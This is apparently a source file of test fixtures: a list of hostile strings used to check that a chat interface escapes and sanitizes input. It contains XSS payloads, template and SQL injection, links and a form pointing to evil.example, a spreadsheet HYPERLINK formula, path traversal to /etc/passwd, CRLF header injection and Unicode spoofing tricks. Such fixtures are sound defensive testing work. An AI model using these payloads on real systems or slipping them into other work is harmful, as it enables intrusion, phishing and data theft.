/** Texts that have broken chats: each wants to be run, to leave its place, or to be taken for something else. */
const bidi = '\u202e'
const zalgo = 'Z' + '\u0301\u0302\u0306\u030a\u0316\u0323\u0332\u0347'.repeat(12) + 'a' + '\u0489'.repeat(30) + 'lgo'

export const hostile = [
  // run me
  '<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '<svg/onload=alert(3)>', '<iframe src="javascript:alert(4)"></iframe>', '"><script>alert(5)</script>', '\'-alert(6)-\'',
  '<a href="javascript:alert(7)">x</a>', '<style>*{display:none}</style>', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<math><mi xlink:href="data:x,alert(8)">', '<form action=//evil.example><input name=q>', '</textarea><script>alert(9)</script>', '<!--<img src="--><img src=x onerror=alert(10)//">', '<template><img src=x onerror=alert(11)>',
  '{{ constructor.constructor("alert(12)")() }}', '${alert(13)}', '#{7*7}', '<%= 7*7 %>', '__proto__', 'constructor', '"; DROP TABLE messages; --', '\' OR 1=1 --',
  // lead me away
  '[x](javascript:alert(14))', '[x](JaVaScRiPt&#58;alert(15))', '[x](data:text/html,<script>alert(16)</script>)', '[x](vbscript:msgbox(17))', '![x](https://evil.example/pixel.png)', '![x](javascript:alert(18))',
  '[https://bank.example](https://evil.example)', '<https://evil.example/<script>>', 'https://evil.example/' + 'long'.repeat(80), 'javascript:alert(19)', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgyMCk8L3NjcmlwdD4=', 'file:///etc/passwd', '//evil.example/x', 'https://user:password@evil.example/',
  // out of my place
  zalgo, `${bidi}gnp.elif${bidi}exe`, '\u2066\u2067\u2068abc', 'مرحبا بالعالم 123', 'שלום hello שלום', '\u200b\u200b\u200b', '\u00ad'.repeat(50) + 'soft', 'x'.repeat(600), '好'.repeat(300), 'ﷺ'.repeat(40), '𒐫'.repeat(40), '|'.repeat(200),
  // somebody else's syntax
  '=HYPERLINK("https://evil.example","x")', '+1+1', '@all', '@everybody', '&lt;b&gt;&amp;&#x41;', '**'.repeat(100) + 'x', '> '.repeat(60) + 'deep', '- '.repeat(60) + 'deep', '`'.repeat(99), '| a | b |\n|---|---|\n| <img src=x onerror=alert(21)> | x |', '```html\n<script>alert(22)</script>\n```',
  // letters
  '👩‍👩‍👧‍👦🏳️‍🌈🇨🇳👍🏽', 'Ｑｕｎ ａｄｍｉｎ', 'аdmin (а)', 'null', 'undefined', '[object Object]', '𝕬𝖉𝖒𝖎𝖓', 'a\u0000b', '\ud800 alone', 'CON', '../../etc/passwd', '\r\nSet-Cookie: a=b',
]
